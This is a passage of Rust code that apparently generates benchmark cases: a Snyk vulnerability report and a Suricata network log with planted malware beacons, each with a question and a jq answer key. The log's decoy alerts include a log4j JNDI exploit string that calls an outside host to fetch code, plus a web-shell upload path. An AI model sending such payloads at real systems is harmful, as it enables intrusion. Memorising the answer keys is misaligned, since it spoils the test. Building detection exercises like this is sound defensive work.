                "fixedIn": if p.fixed.is_empty() { Vec::new() } else { vec![p.fixed] },
                "patches": [],
                "insights": {"triageAdvice": null},
                "language": "js",
                "severity": p.severity,
                "cvssScore": p.score,
                "functions": [],
                "malicious": false,
                "isDisputed": false,
                "moduleName": p.package,
                "references": [
                    {"url": format!("https://github.com/advisories?query={}", p.cve), "title": "GitHub Advisory"},
                    {"url": format!("https://nvd.nist.gov/vuln/detail/{}", p.cve), "title": "NVD"}
                ],
                "cvssDetails": [
                    {"assigner": "NVD", "severity": p.severity, "cvssV3Vector": vector(p), "cvssV3BaseScore": p.score, "modificationTime": "2025-01-14T10:21:09.441027Z"}
                ],
                "cvssSources": [
                    {"type": "primary", "vector": vector(p), "assigner": "Snyk", "severity": p.severity, "baseScore": p.score, "cvssVersion": "3.1", "modificationTime": "2024-12-02T08:11:40.912003Z"},
                    {"type": "secondary", "vector": vector(p), "assigner": "NVD", "severity": p.severity, "baseScore": p.score, "cvssVersion": "3.1", "modificationTime": "2025-01-14T10:21:09.441027Z"}
                ],
                "description": overview(p),
                "epssDetails": {"percentile": format!("0.{:05}", h(k, 709) % 100_000), "probability": format!("0.{:05}", h(k, 710) % 10_000), "modelVersion": "v2025.03.14"},
                "identifiers": {"CVE": if p.cve.is_empty() { Vec::new() } else { vec![p.cve] }, "CWE": [p.cwe], "GHSA": [format!("GHSA-{}-{}-{}", letters(k, 711, 4), letters(k, 712, 4), letters(k, 713, 4))]},
                "packageName": p.package,
                "proprietary": false,
                "creationTime": published,
                "functions_new": [],
                "alternativeIds": [],
                "disclosureTime": published,
                "exploitDetails": {"sources": [], "maturityLevels": [
                    {"type": "secondary", "level": if p.score >= 9.0 { "Proof of Concept" } else { "Not Defined" }, "format": "CVSSv3"},
                    {"type": "primary", "level": if p.score >= 9.0 { "Proof of Concept" } else { "Not Defined" }, "format": "CVSSv4"}
                ]},
                "packageManager": "npm",
                "publicationTime": published,
                "severityBasedOn": "CVSS",
                "modificationTime": "2025-01-14T10:21:09.441027Z",
                "socialTrendAlert": false,
                "severityWithCritical": p.severity,
                "from": from,
                "upgradePath": upgrade,
                "isUpgradable": upgradable,
                "isPatchable": false,
                "name": p.package,
                "version": p.version
            });
            entries.push((h(k * 10 + j, 714), entry));
        }
    }
    // The same packages again through the dev tools' trees (Storybook,
    // Testing Library, Cypress), as a real project's list repeats them.
    let copies: Vec<(u64, Value)> = entries
        .iter()
        .enumerate()
        .flat_map(|(n, (_, e))| {
            let mut v = Vec::new();
            for c in 1..3u64 {
                if e["severity"] != "critical" {
                    let mut e = e.clone();
                    let via = json!(pick(
                        &[
                            "storybook@6.5.16",
                            "@storybook/react@6.5.16",
                            "@testing-library/jest-dom@5.11.4",
                            "cypress@9.7.0"
                        ],
                        n * 3 + c as usize,
                        715
                    ));
                    if let Some(from) = e["from"].as_array_mut() {
                        from.insert(1, via.clone());
                    }
                    if let Some(path) = e["upgradePath"].as_array_mut().filter(|p| !p.is_empty()) {
                        path.insert(1, via);
                    }
                    v.push((h(n * 3 + c as usize, 716), e));
                }
            }
            v
        })
        .collect();
    entries.extend(copies);
    entries.sort_by_key(|e| e.0);
    let count = entries.len();
    let vulnerabilities: Vec<Value> = entries.into_iter().map(|e| e.1).collect();
    let doc = json!({
        "vulnerabilities": vulnerabilities,
        "ok": false,
        "dependencyCount": 1_742,
        "org": "acme-shop",
        "policy": "# Snyk (https://snyk.io) policy file, patches or ignores known vulnerabilities.\nversion: v1.25.1\nignore: {}\npatch: {}\n",
        "isPrivate": true,
        "licensesPolicy": {"severities": {}, "orgLicenseRules": {"AGPL-1.0": {"licenseType": "AGPL-1.0", "severity": "high", "instructions": ""}, "GPL-3.0": {"licenseType": "GPL-3.0", "severity": "high", "instructions": ""}}},
        "packageManager": "npm",
        "ignoreSettings": {"adminOnly": false, "reasonRequired": false, "disregardFilesystemIgnores": false},
        "summary": format!("{count} vulnerable dependency paths"),
        "filesystemPolicy": false,
        "filtered": {"ignore": [], "patch": []},
        "uniqueCount": advisories.len(),
        "projectName": "shop-storefront",
        "displayTargetFile": "package-lock.json",
        "hasUnknownVersions": false,
        "path": "/builds/acme/shop-storefront"
    });
    let mut expected = items.clone();
    expected.sort();
    Case::items(
        "snyk test --json, packages with critical flaws",
        pretty(&doc, b"  ") + "\n",
        "Which of our npm dependencies have the most severe, drop-everything-and-fix-it kind of vulnerabilities? List each package with its version.",
        items,
    )
    .with_jq(
        "[.vulnerabilities[] | select(.severity == \"critical\") | .packageName + \"@\" + .version] | unique | .[]",
        expected.iter().map(|s| jq_string(s)).collect(),
    )
}

/// One alert rule of the Suricata case: signature id, revision, signature,
/// category, severity, former category and signature severity.
type Rule = (
    u64,
    u64,
    &'static str,
    &'static str,
    u64,
    &'static str,
    &'static str,
);

/// One planted trojan alert of the Suricata case: its line, the
/// workstation, the C2 server's address and port, whether the alert is on
/// the server's reply, the rule, the malware family and the protocol.
type Beacon = (
    usize,
    &'static str,
    &'static str,
    u64,
    bool,
    Rule,
    &'static str,
    &'static str,
);

/// Suricata 7's `eve.json` from the sensor on an office's uplink, one event
/// a line: DNS queries and answers, TLS handshakes, HTTP requests, flows
/// and now and then the stats. Alerts: `.top` lookups, curl and Go user
/// agents, IP-lookup services, stream anomalies, an adware check-in ("CnC"
/// in its signature, a potentially unwanted program), inbound MSSQL
/// scans, and inbound log4j and web-shell exploit attempts on the web
/// server (severity 1). Five workstations raise one trojan alert each
/// (rules rate-limited per host): four as the source of their beacon, one
/// as the destination of the C2 server's certificate.
fn suricata_compromised_hosts() -> Case {
    let decoy_rules: [Rule; 9] = [
        (
            2_027_757,
            4,
            "ET INFO Observed DNS Query to .top TLD",
            "Potentially Bad Traffic",
            2,
            "INFO",
            "Informational",
        ),
        (
            2_002_824,
            8,
            "ET POLICY curl User-Agent Outbound",
            "Attempted Information Leak",
            2,
            "POLICY",
            "Informational",
        ),
        (
            2_010_935,
            3,
            "ET SCAN Suspicious inbound to MSSQL port 1433",
            "Potentially Bad Traffic",
            2,
            "SCAN",
            "Minor",
        ),
        (
            2_034_647,
            2,
            "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
            "Attempted Administrator Privilege Gain",
            1,
            "EXPLOIT",
            "Major",
        ),
        (
            2_016_184,
            5,
            "ET WEB_SERVER WebShell Generic - wget http - POST",
            "Web Application Attack",
            1,
            "WEB_SERVER",
            "Major",
        ),
        (
            2_025_284,
            3,
            "ET ADWARE_PUP Win32/InstallCore Variant CnC Checkin",
            "Possibly Unwanted Program Detected",
            2,
            "ADWARE_PUP",
            "Minor",
        ),
        (
            2_053_764,
            1,
            "ET POLICY Observed IP Lookup Domain (ipify .org in TLS SNI)",
            "Device Retrieving External IP Address Detected",
            2,
            "POLICY",
            "Informational",
        ),
        (
            2_210_045,
            2,
            "SURICATA STREAM Packet with invalid ack",
            "Generic Protocol Command Decode",
            3,
            "",
            "",
        ),
        (
            2_027_390,
            4,
            "ET USER_AGENTS Go HTTP Client User-Agent",
            "Misc activity",
            3,
            "USER_AGENTS",
            "Informational",
        ),
    ];
    let trojan = "A Network Trojan was detected";
    let planted: [Beacon; 5] = [
        (
            150,
            "10.20.14.37",
            "45.137.21.9",
            443,
            false,
            (
                2_028_591,
                6,
                "ET MALWARE Cobalt Strike Beacon Observed",
                trojan,
                1,
                "MALWARE",
                "Major",
            ),
            "CobaltStrike",
            "http",
        ),
        (
            390,
            "10.20.3.118",
            "103.147.184.23",
            587,
            false,
            (
                2_029_927,
                3,
                "ET MALWARE AgentTesla Exfil Via SMTP",
                trojan,
                1,
                "MALWARE",
                "Major",
            ),
            "AgentTesla",
            "smtp",
        ),
        (
            560,
            "10.20.9.54",
            "193.233.48.72",
            443,
            true,
            (
                2_044_201,
                2,
                "ET MALWARE Observed Qakbot Style SSL Certificate",
                trojan,
                1,
                "MALWARE",
                "Major",
            ),
            "Qakbot",
            "tls",
        ),
        (
            770,
            "10.20.22.201",
            "172.67.158.12",
            80,
            false,
            (
                2_049_836,
                1,
                "ET MALWARE Win32/Lumma Stealer Related CnC Activity (POST)",
                trojan,
                1,
                "MALWARE",
                "Major",
            ),
            "Lumma_Stealer",
            "http",
        ),
        (
            960,
            "10.20.31.5",
            "80.78.24.30",
            80,
            false,
            (
                2_031_449,
                4,
                "ET MALWARE Win32/IcedID Request Cookie",
                trojan,
                1,
                "MALWARE",
                "Major",
            ),
            "IcedID",
            "http",
        ),
    ];
    let hosts: Vec<String> = (0..90)
        .map(|k| format!("10.20.{}.{}", 1 + h(k, 801) % 40, 10 + h(k, 802) % 240))
        .filter(|ip| !planted.iter().any(|p| p.1 == ip))
        .collect();
    let domains = [
        ("www.google.com", "142.250.187.196"),
        ("outlook.office365.com", "52.97.146.162"),
        ("slack.com", "34.237.18.92"),
        ("api.github.com", "140.82.121.6"),
        ("teams.microsoft.com", "52.113.194.132"),
        ("update.googleapis.com", "142.250.178.3"),
        ("login.microsoftonline.com", "20.190.159.68"),
        ("cdn.jsdelivr.net", "151.101.1.229"),
        ("s3.eu-west-1.amazonaws.com", "52.218.62.115"),
        ("zoom.us", "170.114.52.2"),
        ("graph.microsoft.com", "20.44.10.123"),
        ("ocsp.digicert.com", "93.184.220.29"),
        ("fonts.gstatic.com", "142.250.179.227"),
        ("api.hubspot.com", "104.16.117.116"),
        ("deals-today.top", "104.21.48.90"),
        ("api.ipify.org", "104.26.12.205"),
    ];
    let agents = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Microsoft-CryptoAPI/10.0",
        "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.71",
        "curl/8.5.0",
        "Go-http-client/1.1",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    ];
    let community = |i: usize| {
        let s: String = (0..27)
            .map(|k| {
                let c = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
                    [(h(i * 31 + k, 803) % 64) as usize];
                c as char
            })
            .collect();
        format!("1:{s}=")
    };
    let mut out = String::new();
    let mut items = Vec::new();
    let mut us = 3_600_000_000u64;
    let mut stats_packets = 91_204_118u64;
    for i in 0..1_250usize {
        us += 500_000 + h(i, 804) % 5_000_000;
        let stamp = |us: u64| format!("{}.{:06}+0000", iso(us / 1_000_000), us % 1_000_000);
        let ts = stamp(us);
        let flow_id = 1_000_000_000_000_000 + h(i, 805) % 1_200_000_000_000_000;
        let start = stamp(us - 200_000 - h(i, 806) % 4_000_000);
        let head = |event: &str, src: &str, sport: u64, dst: &str, dport: u64, proto: &str| {
            json!({
                "timestamp": ts,
                "flow_id": flow_id,
                "in_iface": "ens1f1",
                "event_type": event,
                "src_ip": src,
                "src_port": sport,
                "dest_ip": dst,
                "dest_port": dport,
                "proto": proto,
                "pkt_src": "wire/pcap",
                "community_id": community(i)
            })
        };
        let add = |mut v: Value, extra: Value| {
            if let (Some(a), Value::Object(b)) = (v.as_object_mut(), extra) {
                a.extend(b);
            }
            v
        };
        let alert_obj = |r: &Rule, family: &str| {
            let mut meta = json!({
                "attack_target": ["Client_Endpoint"],
                "created_at": [format!("20{}_{:02}_{:02}", 19 + r.0 % 6, 1 + r.0 % 12, 1 + r.0 % 28)],
                "deployment": ["Perimeter"],
                "signature_severity": [r.6],
                "updated_at": ["2025_10_14"]
            });
            if !r.5.is_empty() {
                meta["former_category"] = json!([r.5]);
            } else {
                meta = json!({});
            }
            if !family.is_empty() {
                meta["malware_family"] = json!([family]);
            }
            json!({
                "action": "allowed",
                "gid": 1,
                "signature_id": r.0,
                "rev": r.1,
                "signature": r.2,
                "category": r.3,
                "severity": r.4,
                "metadata": meta
            })
        };
        let flow_obj = |src: &str, sport: u64, dst: &str, dport: u64| {
            json!({
                "pkts_toserver": 3 + h(i, 807) % 40,
                "pkts_toclient": 2 + h(i, 808) % 60,
                "bytes_toserver": 300 + h(i, 809) % 20_000,
                "bytes_toclient": 200 + h(i, 810) % 90_000,
                "start": start,
                "src_ip": src,
                "dest_ip": dst,
                "src_port": sport,
                "dest_port": dport
            })
        };
        let host = hosts[(h(i, 811) % hosts.len() as u64) as usize].as_str();
        let sport = 49_152 + h(i, 812) % 16_000;
        if let Some(p) = planted.iter().find(|p| p.0 == i) {
            let (_, ws, c2, port, reply, rule, family, app) = *p;
            items.push(ws.to_string());
            let (src, sp, dst, dp, direction) = if reply {
                (c2, port, ws, sport, "to_client")
            } else {
                (ws, sport, c2, port, "to_server")
            };
            let app_obj = match app {
                "http" if family == "Lumma_Stealer" => {
                    json!({"http": {"hostname": "ocean-rise.shop", "url": "/api", "http_user_agent": agents[0], "http_content_type": "text/html", "http_method": "POST", "protocol": "HTTP/1.1", "status": 200, "length": 2}})
                }
                "http" if family == "IcedID" => {
                    json!({"http": {"hostname": "aplihoster.com", "url": "/", "http_user_agent": "", "http_content_type": "text/html", "http_method": "GET", "protocol": "HTTP/1.1", "status": 200, "length": 0}})
                }
                "http" => {
                    json!({"http": {"hostname": c2, "url": format!("/{}", letters(i, 813, 4)), "http_user_agent": "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; LBBROWSER)", "http_content_type": "application/octet-stream", "http_method": "GET", "protocol": "HTTP/1.1", "status": 200, "length": 0}})
                }
                "smtp" => {
                    json!({"smtp": {"helo": "DESKTOP-7Q2K4LM", "mail_from": "<logs@svchost-updates.xyz>", "rcpt_to": ["<drop.box1@svchost-updates.xyz>"]}})
                }
                _ => {
                    json!({"tls": {"subject": "C=US, ST=NY, L=Albany, O=Hotelgomma Inc., CN=wexisvo.info", "issuerdn": "C=US, ST=NY, L=Albany, O=Hotelgomma Inc., CN=wexisvo.info", "serial": "3E:41:9A:0C:12:7B", "fingerprint": "4f:0c:2b:77:1e:c9:03:5a:60:bd:ae:13:99:42:f1:08:6c:d2:1a:5e", "version": "TLS 1.2", "notbefore": "2026-11-20T08:12:44", "notafter": "2027-11-20T08:12:44"}})
                }
            };
            let mut v = add(
                head("alert", src, sp, dst, dp, "TCP"),
                json!({"tx_id": 0, "alert": alert_obj(&rule, family)}),
            );
            v = add(v, app_obj);
            v = add(
                v,
                json!({"app_proto": app, "direction": direction, "flow": flow_obj(src, sp, dst, dp)}),
            );
            out.push_str(&v.to_string());
            out.push('\n');
            // The workstation's DNS lookup a moment later.
            let answer = add(
                head(
                    "dns",
                    "10.30.0.53",
                    53,
                    ws,
                    50_000 + h(i, 814) % 9_000,
                    "UDP",
                ),
                json!({"dns": {"version": 2, "type": "answer", "id": h(i, 815) % 65_536, "flags": "8180", "qr": true, "rd": true, "ra": true, "opcode": 0, "rrname": "wpad.corp.acme.io", "rrtype": "A", "rcode": "NXDOMAIN"}}),
            );
            out.push_str(&answer.to_string());
            out.push('\n');
            continue;
        }
        if i % 200 == 199 {
            stats_packets += 4_000_000 + h(i, 816) % 2_000_000;
            let v = json!({
                "timestamp": ts,
                "event_type": "stats",
                "stats": {
                    "uptime": 86_400 * 12 + us / 1_000_000,
                    "capture": {"kernel_packets": stats_packets, "kernel_drops": h(i, 817) % 4_000, "errors": 0, "afpacket": {"busy_loop_avg": 0, "polls": stats_packets / 30, "poll_signal": 0, "poll_timeout": 88_120, "poll_data": stats_packets / 31, "poll_errors": 0, "send_errors": 0}},
                    "decoder": {"pkts": stats_packets, "bytes": stats_packets * 812, "invalid": h(i, 818) % 90, "ipv4": stats_packets - 12_004, "ipv6": 12_004, "ethernet": stats_packets, "tcp": stats_packets * 8 / 10, "udp": stats_packets * 2 / 10, "icmpv4": 4_118, "icmpv6": 611, "vlan": 0, "avg_pkt_size": 812, "max_pkt_size": 1514},
                    "flow": {"memcap": 0, "tcp": stats_packets / 90, "udp": stats_packets / 200, "icmpv4": 301, "icmpv6": 12, "spare": 10_000, "emerg_mode_entered": 0, "emerg_mode_over": 0, "memuse": 7_394_304},
                    "detect": {"engines": [{"id": 0, "last_reload": "2026-11-26T06:00:02.118271+0000", "rules_loaded": 48_211, "rules_failed": 0, "rules_skipped": 0}], "alert": 1_904 + i as u64 / 10, "alert_queue_overflow": 0, "alerts_suppressed": 3_118 + i as u64 / 4},
                    "app_layer": {"flow": {"http": stats_packets / 9_000, "tls": stats_packets / 2_100, "dns_udp": stats_packets / 1_800, "smtp": 118, "failed_tcp": 2_044}, "tx": {"http": stats_packets / 8_500, "tls": 0, "dns_udp": stats_packets / 900, "smtp": 122}}
                }
            });
            out.push_str(&v.to_string());
            out.push('\n');
            continue;
        }
        let (name, addr) = domains[(h(i, 819) % 14) as usize];
        let v = match h(i, 820) % 100 {
            0..=27 => {
                let (name, addr) = if h(i, 821).is_multiple_of(25) {
                    domains[14]
                } else {
                    (name, addr)
                };
                let id = h(i, 822) % 65_536;
                if h(i, 823).is_multiple_of(2) {
                    add(
                        head("dns", host, sport, "10.30.0.53", 53, "UDP"),
                        json!({"dns": {"type": "query", "id": id, "rrname": name, "rrtype": "A", "tx_id": 0, "opcode": 0}}),
                    )
                } else {
                    add(
                        head("dns", "10.30.0.53", 53, host, sport, "UDP"),
                        json!({"dns": {"version": 2, "type": "answer", "id": id, "flags": "8180", "qr": true, "rd": true, "ra": true, "opcode": 0, "rrname": name, "rrtype": "A", "rcode": "NOERROR", "answers": [{"rrname": name, "rrtype": "A", "ttl": 60 + h(i, 824) % 3_000, "rdata": addr}], "grouped": {"A": [addr]}}}),
                    )
                }
            }
            28..=44 => add(
                head("tls", host, sport, addr, 443, "TCP"),
                json!({"tls": {"subject": format!("CN={name}"), "issuerdn": pick(&["C=US, O=Google Trust Services, CN=WR2", "C=US, O=Microsoft Corporation, CN=Microsoft Azure RSA TLS Issuing CA 04", "C=US, O=DigiCert Inc, CN=DigiCert Global G2 TLS RSA SHA256 2020 CA1", "C=US, O=Let's Encrypt, CN=R11", "C=US, O=Amazon, CN=Amazon RSA 2048 M02"], i, 825), "serial": hex(i, 826, 16).to_uppercase(), "fingerprint": hex(i, 827, 40), "sni": name, "version": "TLS 1.3", "notbefore": "2026-10-02T08:21:11", "notafter": "2026-12-25T08:21:10", "ja3": {"hash": hex(i % 7, 828, 32)}, "ja3s": {"hash": hex(i % 5, 829, 32)}}, "app_proto": "tls"}),
            ),
            45..=56 => {
                let agent = pick(&agents, i, 830);
                add(
                    head("http", host, sport, addr, 80, "TCP"),
                    json!({"tx_id": 0, "http": {"hostname": name, "url": format!("/{}/{}", letters(i, 831, 6), letters(i, 832, 8)), "http_user_agent": agent, "http_content_type": "application/octet-stream", "http_method": "GET", "protocol": "HTTP/1.1", "status": pick(&["200", "200", "304", "301", "404"], i, 833).parse::<u64>().unwrap_or(200), "length": h(i, 834) % 200_000}}),
                )
            }
            57..=84 => {
                let tcp = !h(i, 835).is_multiple_of(4);
                let (dst, dport, app) = if tcp {
                    (addr, 443, "tls")
                } else {
                    ("10.30.0.53", 53, "dns")
                };
                let mut v = add(
                    head(
                        "flow",
                        host,
                        sport,
                        dst,
                        dport,
                        if tcp { "TCP" } else { "UDP" },
                    ),
                    json!({"app_proto": app, "flow": {"pkts_toserver": 3 + h(i, 807) % 40, "pkts_toclient": 2 + h(i, 808) % 60, "bytes_toserver": 300 + h(i, 809) % 20_000, "bytes_toclient": 200 + h(i, 810) % 90_000, "start": start, "end": ts, "age": h(i, 836) % 120, "state": if tcp { "closed" } else { "established" }, "reason": "timeout", "alerted": false}}),
                );
                if tcp {
                    v = add(
                        v,
                        json!({"tcp": {"tcp_flags": "1b", "tcp_flags_ts": "1b", "tcp_flags_tc": "1b", "syn": true, "fin": true, "psh": true, "ack": true, "state": "closed", "ts_max_regions": 1, "tc_max_regions": 1}}),
                    );
                }
                v
            }
            n => {
                let r = &decoy_rules[(n as usize - 85) % decoy_rules.len()];
                let (src, sp, dst, dp, app, extra) = match r.5 {
                    "SCAN" => (
                        format!(
                            "{}.{}.{}.{}",
                            45 + h(i, 837) % 150,
                            h(i, 838) % 256,
                            h(i, 839) % 256,
                            1 + h(i, 840) % 254
                        ),
                        40_000 + h(i, 841) % 20_000,
                        "10.30.0.10".to_string(),
                        1433,
                        "failed",
                        json!({}),
                    ),
                    "EXPLOIT" | "WEB_SERVER" => (
                        format!(
                            "{}.{}.{}.{}",
                            45 + h(i, 837) % 150,
                            h(i, 838) % 256,
                            h(i, 839) % 256,
                            1 + h(i, 840) % 254
                        ),
                        40_000 + h(i, 841) % 20_000,
                        "10.30.0.10".to_string(),
                        80,
                        "http",
                        json!({"http": {"hostname": "shop.acme.io", "url": if r.5 == "EXPLOIT" { "/?x=${jndi:ldap://45.83.64.1:1389/Basic/Command/Base64/d2dldCBodHRwOi8v}" } else { "/wp-content/plugins/upload.php" }, "http_user_agent": "Mozilla/5.0 zgrab/0.x", "http_method": if r.5 == "EXPLOIT" { "GET" } else { "POST" }, "protocol": "HTTP/1.1", "status": 404, "length": 153}}),
                    ),
                    "ADWARE_PUP" => (
                        "10.20.7.15".to_string(),
                        sport,
                        "54.230.112.40".to_string(),
                        80,
                        "http",
                        json!({"http": {"hostname": "rp.installcore.net", "url": format!("/?v=2&cid={}", hex(i, 842, 12)), "http_user_agent": "InstallCore", "http_method": "GET", "protocol": "HTTP/1.1", "status": 200, "length": 412}}),
                    ),
                    "INFO" => (
                        host.to_string(),
                        sport,
                        "10.30.0.53".to_string(),
                        53,
                        "dns",
                        json!({"dns": {"query": [{"type": "query", "id": h(i, 843) % 65_536, "rrname": "deals-today.top", "rrtype": "A", "tx_id": 0, "opcode": 0}]}}),
                    ),
                    _ => (
                        host.to_string(),
                        sport,
                        addr.to_string(),
                        if r.2.contains("ipify") { 443 } else { 80 },
                        if r.2.contains("ipify") { "tls" } else { "http" },
                        json!({}),
                    ),
                };
                let mut v = add(
                    head(
                        "alert",
                        &src,
                        sp,
                        &dst,
                        dp,
                        if app == "dns" { "UDP" } else { "TCP" },
                    ),
                    json!({"tx_id": 0, "alert": alert_obj(r, if r.5 == "ADWARE_PUP" { "InstallCore" } else { "" })}),
                );
                v = add(v, extra);
                add(
                    v,
                    json!({"app_proto": app, "direction": "to_server", "flow": flow_obj(&src, sp, &dst, dp)}),
                )
            }
        };
        out.push_str(&v.to_string());
        out.push('\n');
    }
    assert_eq!(items.len(), 5);
    let expected = items.iter().map(|s| jq_string(s)).collect();
    Case::items(
        "Suricata eve.json, hosts phoning home",
        out,
        "Which of our machines look like they have been compromised and are talking to an attacker's server? List every one.",
        items,
    )
    .with_jq(
        ".[] | select(.event_type == \"alert\" and .alert.category == \"A Network Trojan was detected\") | if (.src_ip | startswith(\"10.\")) then .src_ip else .dest_ip end",
        expected,
    )
}
